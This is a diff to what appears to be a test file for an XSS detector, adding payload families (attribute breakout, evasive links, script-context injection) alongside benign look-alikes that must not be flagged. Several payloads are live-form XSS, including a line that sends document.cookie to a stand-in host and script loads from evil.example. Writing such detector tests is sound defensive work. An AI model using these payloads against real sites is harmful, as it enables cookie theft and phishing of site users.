@@ -1,4 +1,4 @@
-"""XSS families added in session 2: each with variants that must block and look-alikes that must not.
+"""XSS families added in sessions 2 and 3: each with variants that must block and look-alikes that must not.
 
 All through the whole detector (triggers included), so a family the prefilter does not
 let through fails here too.
@@ -49,6 +49,20 @@ FAMILIES = {
     "mojibake": ["<\u00c5\u00bfcript/async/src=//\u00e2\u2019\u203a\u00e2\u201a\u00a8>",
                  "\u00e2\u02c6\u20ac\u00e3\u00b8\u20ac\u00e3\u00b0\u20acscript\u00e3\u00b8\u20acconfirm(1)"
                  "\u00e3\u00b0\u20ac/script\u00e3\u00b8\u20ac"],
+    # out of the attribute and the tag, then markup of its own (no script needed: defacement, phishing)
+    "breakout markup": ["'><h1>X</h1>", '"><A HREF="//evil.example">log in</A>', "'\">><marquee><h1>1</h1></marquee>",
+                        '-1"><img/src="x.png" alt="a">', '>"<a href="//evil.example">', "x'> <form action=//e.x>",
+                        '\\\'"><br><br><b><u>X</u></b>', "</title><h1>X</h1>", "</textarea><img src=x.png>",
+                        '"></textarea><b>x</b>'],
+    # injected links whose URL is spelled so that a filter and the browser read different hosts
+    "evasive link": ['<A HREF="h tt\tp://6&#09;6.000146.0x7.147/">X</A>', '<A HREF="htt\tp://6\t6.000146.0x7.147/">XSS</A>',
+                     '<A HREF="http://ha.ckers.org@google">XSS</A>', '<A HREF="http://google:ha.ckers.org">XSS</A>',
+                     '<A HREF="http://www.gohttp://www.google.com/ogle.com/">XSS</A>',
+                     '<a href="http&#58;//www&#46;evil&#46;example/">x</a>', '<img src="http://0x42.0x0000066.0x7.0x93/x.png">',
+                     '<a href="http://bank.example@evil.example/login">log in</a>'],
+    # written into the page's script block, then closing it
+    "script context": ["$,_=1}}).$=alert</script>", 'src="http://evil.example/x.js"></script>',
+                       "x=document.cookie;new Image().src='//e.x/?'+x</script>", "src=//e.x/a.js></script>"],
 }
 
 LOOK_ALIKES = [
@@ -58,6 +72,15 @@ LOOK_ALIKES = [
     "x < y and y > z", "a < b", "1 < 2 < 3", "i <3 you", "<'quoted'>", "it's 5 o'clock; alert me at 6",
     "line one\nline two", "Note; confirm the order", "café naïve résumé", "\u00c3\u00a9t\u00c3\u00a9 \u00c3\u00a0 Paris",
     "0 || 'default'", "a ? 'yes' : 'no'", "x && 'y'", "\\74 is an octal escape",
+    'say "hi"><b>x</b>', '"quoted" <b>x</b>', "'><3", '"><x>', '5">', "it's > 'that' <b>", '"a" > "b"',
+    "'>' is greater-than", 'He said "no"> <i>maybe</i>',
+    '<a href="https://example.com/a?b=c&amp;d=e">link</a>', '<a href="http://example.com:8080/">x</a>',
+    '<a href="https://web.archive.org/web/2020/https://example.com/">archived</a>',
+    '<a href="https://medium.com/@user/post">post</a>', '<img src="https://cdn.example/x.png?a=1&#38;b=2">',
+    '<a href="mailto:someone@example.com">mail</a>', '<a href="http://66.102.7.147/">by IP</a>',
+    "see the </script> tag", "Use alert() inside </script>", 'type="text/javascript"></script>',
+    "close it with ); </script>", "</b><h1>x</h1>", "text </title><h1>x</h1>", "</title>",
+    "</div><div class=a>t</div>",
 ]
 
 
